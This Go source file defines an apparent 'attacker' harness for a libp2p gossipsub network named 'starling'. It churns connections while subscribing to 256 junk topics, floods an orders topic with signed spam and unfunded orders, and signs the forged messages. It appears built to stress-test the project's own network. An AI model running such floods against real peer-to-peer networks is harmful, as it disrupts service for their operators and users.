package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"time"

	pubsub "github.com/libp2p/go-libp2p-pubsub"
	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/peer"
	libp2pprotocol "github.com/libp2p/go-libp2p/core/protocol"
	"google.golang.org/protobuf/encoding/protodelim"
	"google.golang.org/protobuf/proto"
)

func (a *attacker) meshsub() libp2pprotocol.ID {
	return libp2pprotocol.ID("/starling/meshsub/1.2/" + a.genesis.Tag())
}

func (a *attacker) topic(name string) string { return "/starling/" + a.genesis.Tag() + "/" + name }

// subscriptions connects, subscribes to many topics, and disconnects, repeatedly.
func (a *attacker) subscriptions(ctx context.Context, c *count, keys []int, to peer.AddrInfo) {
	var subs []*pb.RPC_SubOpts
	for i := range 256 {
		subs = append(subs, &pb.RPC_SubOpts{Subscribe: proto.Bool(true),
			Topicid: proto.String(a.topic(fmt.Sprint(strings.Repeat("x", 60), i)))})
	}
	pace(ctx, 1, func(i int) {
		key := keys[i%len(keys)]
		p := a.pipes(to, a.meshsub())
		c.note(p.write(ctx, key, func(w io.Writer) error {
			_, err := protodelim.MarshalTo(w, &pb.RPC{Subscriptions: subs})
			return err
		}))
		_ = a.hosts[key].Network().ClosePeer(to.ID)
	})
}

// gossip floods the topic of orders with orders of fresh unfunded keys, and with texts that are not orders.
func (a *attacker) gossip(ctx context.Context, c *count, keys []int, to peer.AddrInfo) {
	p := a.pipes(to, a.meshsub())
	topic := a.topic("orders/cpu")
	joined := map[int]bool{}
	pace(ctx, 25, func(i int) {
		key := keys[i%len(keys)]
		data := []byte(strings.Repeat("no order", 256))
		if i/len(keys)%4 != 0 {
			var err error
			if data, err = a.freshOrder(); err != nil {
				c.note(err)
				return
			}
		}
		m, err := a.signed(key, topic, data)
		if err != nil {
			c.note(err)
			return
		}
		c.note(p.write(ctx, key, func(w io.Writer) error {
			rpc := &pb.RPC{Publish: []*pb.Message{m}}
			if !joined[key] {
				joined[key] = true
				rpc.Subscriptions = []*pb.RPC_SubOpts{{Subscribe: proto.Bool(true), Topicid: proto.String(topic)}}
			}
			_, err := protodelim.MarshalTo(w, rpc)
			return err
		}))
	})
}

// signed makes a message with a pubsub signature.
func (a *attacker) signed(key int, topic string, data []byte) (*pb.Message, error) {
	h := a.hosts[key]
	m := &pb.Message{From: []byte(h.ID()), Data: data,
		Seqno: binary.BigEndian.AppendUint64(nil, uint64(time.Now().UnixNano())), Topic: &topic}
	bytes, err := proto.Marshal(m)
	if err != nil {
		return nil, err
	}
	m.Signature, err = h.Peerstore().PrivKey(h.ID()).Sign(append([]byte(pubsub.SignPrefix), bytes...))
	return m, err
}
